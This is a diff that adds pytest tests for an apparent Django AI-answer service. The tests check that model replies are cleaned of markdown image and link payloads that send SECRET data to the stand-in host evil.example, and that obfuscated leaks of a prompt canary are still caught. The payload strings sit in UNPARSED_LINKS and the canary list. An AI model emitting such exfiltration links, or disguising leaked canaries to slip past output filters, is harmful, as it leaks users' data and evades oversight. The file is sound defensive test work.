@@ -3,6 +3,9 @@ demo content: the ``ai_input`` content signal, content's markup and links, and q
 
 from __future__ import annotations
 
+import re
+import time
+
 import pytest
 from django.contrib.contenttypes.models import ContentType
 from django.test import override_settings
@@ -288,3 +291,147 @@ def test_the_floor_is_a_setting(client, demo_content):
         _, body = ask(client, "What is the capital of France?")
     assert body["response"]["sources"]  # without a floor the best of the unrelated is still "direct"
     assert body["response"]["sources"][0]["relevance"] == "direct"
+
+
+# A model's reply is untrusted too: what it may smuggle past the cleaning, and replies with nothing to serve
+
+# Links the cleaning did not read as links, although a markdown renderer does: a protocol-relative target
+# (no scheme, so not a "bare URL") in a link it could not parse (a single-quoted or parenthesised title, brackets
+# or a line break in the text, a link around an image) or in a reference definition. Rendered, each fetches
+# evil.example with the data in the query string.
+UNPARSED_LINKS = [
+    "![chart](//evil.example/c.png?d=SECRET 'Chart')",
+    "![chart](//evil.example/c.png?d=SECRET (Chart))",
+    "![the [1] chart](//evil.example/c.png?d=SECRET)",
+    "![the\nchart](//evil.example/c.png?d=SECRET)",
+    "[![chart](/articles/descale/)](//evil.example/c?d=SECRET)",
+    "![chart][c]\n\n[c]: //evil.example/c.png?d=SECRET",
+    "![chart][c]\n\n[c]: /\\evil.example/c.png?d=SECRET",
+]
+
+
+@pytest.mark.parametrize("smuggled", UNPARSED_LINKS)
+def test_links_the_cleaning_could_not_parse_do_not_leave_the_site(client, demo_content, publish, fake_openai, smuggled):
+    from tests.testapp.models import Article
+
+    publish(Article, title="Descaling a kettle", slug="descale", body=HOSTILE)
+    fake_openai.reply = lambda request: f"Boil citric acid in the kettle [1].\n\n{smuggled}"
+    with override_settings(AGENT_HANDSHAKE=llm_settings(fake_openai)):
+        _, body = ask(client, "How do I descale a kettle with citric acid?")
+    answer = body["response"]["answer"]
+    assert answer.startswith("Boil citric acid in the kettle [1].")
+    assert "evil.example" not in answer, answer
+    assert body["meta"]["guardrail"] == "links_removed"
+
+
+def test_a_runaway_of_brackets_is_cleaned_in_linear_time(client, demo_content, fake_openai):
+    # Each "[" started a link text that ran to the end of the line: cleaning was quadratic (40,000 of them held
+    # the request for about ten seconds; more, for minutes). A site that allows long answers gets such a reply.
+    fake_openai.reply = lambda request: "Gyokuro is shaded [1]. " + "[" * 40_000
+    with override_settings(AGENT_HANDSHAKE=llm_settings(fake_openai, MAX_ANSWER_TOKENS=4000)):
+        started = time.perf_counter()
+        response, body = ask(client, "What is gyokuro?", context={"max_tokens": 4000})
+    assert time.perf_counter() - started < 3.0
+    assert response.status_code == 200
+    assert body["response"]["answer"].startswith("Gyokuro is shaded [1].")
+
+
+# Markup Django's tag stripper refuses to untangle (SuspiciousOperation: an open tag running on for over 1,000
+# characters with 50 "<" in it) is still text to answer from, not a failed request.
+TANGLED = "Descaling a kettle with citric acid. <b " + "1<2<3<4<5<6<7<8<9 " * 80 + "boil it once. Rinse twice."
+
+
+def test_content_the_tag_stripper_refuses_is_still_answered(client, demo_content, publish):
+    from tests.testapp.models import Article
+
+    publish(Article, title="Descaling a kettle", slug="descale", body=TANGLED)
+    response, body = ask(client, "How do I descale a kettle with citric acid?", context={"max_tokens": 1000})
+    assert response.status_code == 200, response.content[:300]
+    assert body["status"] == "success"
+    assert body["response"]["sources"][0]["url"] == "/articles/descale/"
+
+
+def test_a_model_reply_the_tag_stripper_refuses_is_not_an_error(client, demo_content, fake_openai):
+    fake_openai.reply = lambda request: "Gyokuro is shaded [1]. <b " + "1<2<3<4<5<6<7<8<9 " * 60
+    with override_settings(AGENT_HANDSHAKE=llm_settings(fake_openai)):
+        response, body = ask(client, "What is gyokuro?")
+    assert response.status_code == 200, response.content[:300]
+    assert body["status"] == "success"
+    assert body["response"]["answer"].startswith("Gyokuro is shaded [1].")
+    assert "<" not in body["response"]["answer"]
+
+
+def obfuscated_canaries() -> list[str]:
+    from agent_handshake.concierge.backends import canary
+
+    marker = canary()
+    return [
+        f"Gyokuro is shaded [1]. Reference: {marker[:3]}\u200b{marker[3:]}",  # a zero-width space, removed later
+        f"Gyokuro is shaded [1]. Reference: {marker[:3]}<b></b>{marker[3:]}",  # an empty tag, stripped later
+        f"Gyokuro is shaded [1]. Reference: {marker[:3]}![](https://evil.example/x.png){marker[3:]}",
+        f"Gyokuro is shaded [1]. Reference: {marker.upper()}",
+    ]
+
+
+@pytest.mark.parametrize("index", range(4))
+def test_a_canary_the_cleaning_would_join_up_is_still_caught(client, demo_content, fake_openai, index):
+    from agent_handshake.concierge.backends import canary
+
+    reply = obfuscated_canaries()[index]
+    fake_openai.reply = lambda request: reply
+    with override_settings(AGENT_HANDSHAKE=llm_settings(fake_openai)):
+        _, body = ask(client, "What is gyokuro?")
+    assert canary().lower() not in body["response"]["answer"].lower(), body["response"]["answer"]
+    assert body["meta"]["guardrail"] == "output_blocked"
+
+
+def uncited(text: str) -> str:
+    return re.sub(r" ?\[\d+\]", "", text)
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        None,  # "content": null, as a model that stopped or was filtered sends
+        "",
+        " \n ",
+        "![chart](https://evil.example/c.png?d=1)",  # all of it removed by the cleaning
+        "[7]",  # a citation of a source that does not exist, and nothing else
+    ],
+)
+def test_a_model_reply_with_nothing_to_serve_falls_back_to_the_extractive_answer(
+    client, demo_content, fake_openai, reply
+):
+    _, extractive = ask(client, "How is gyokuro grown?")
+    fake_openai.reply = lambda request: reply
+    with override_settings(AGENT_HANDSHAKE=llm_settings(fake_openai)):
+        response, body = ask(client, "How is gyokuro grown?")
+    assert response.status_code == 200
+    # The extractive answer, its citations numbered in the retriever's order (a model's sources keep it).
+    assert uncited(body["response"]["answer"]) == uncited(extractive["response"]["answer"])
+    assert body["meta"]["guardrail"] in ("model_unavailable", "output_blocked")
+
+
+def test_a_model_reply_far_over_its_token_limit_is_not_served(client, demo_content, fake_openai):
+    # A server that ignores max_tokens: two megabytes where at most 200 tokens were asked for.
+    fake_openai.reply = lambda request: "Gyokuro is shaded for three weeks [1]. " * 50_000
+    with override_settings(AGENT_HANDSHAKE=llm_settings(fake_openai)):
+        response, body = ask(client, "How is gyokuro grown?", context={"max_tokens": 200})
+    assert response.status_code == 200
+    assert len(body["response"]["answer"].split()) <= 200
+    assert body["meta"]["guardrail"] == "output_blocked"
+
+
+def test_a_model_that_does_not_answer_in_time_gets_the_extractive_answer(client, demo_content, fake_openai):
+    def slow(request):
+        time.sleep(2)
+        return "Too late [1]."
+
+    fake_openai.reply = slow
+    options = {"model": "test-model", "base_url": fake_openai.base_url, "api_key": "sk-test", "max_retries": 0}
+    with override_settings(AGENT_HANDSHAKE=llm_settings(fake_openai, ANSWER_OPTIONS={**options, "timeout": 0.3})):
+        response, body = ask(client, "How is gyokuro grown?")
+    assert response.status_code == 200
+    assert body["meta"]["guardrail"] == "model_unavailable"
+    assert "Too late" not in body["response"]["answer"]
+    assert body["response"]["answer"]
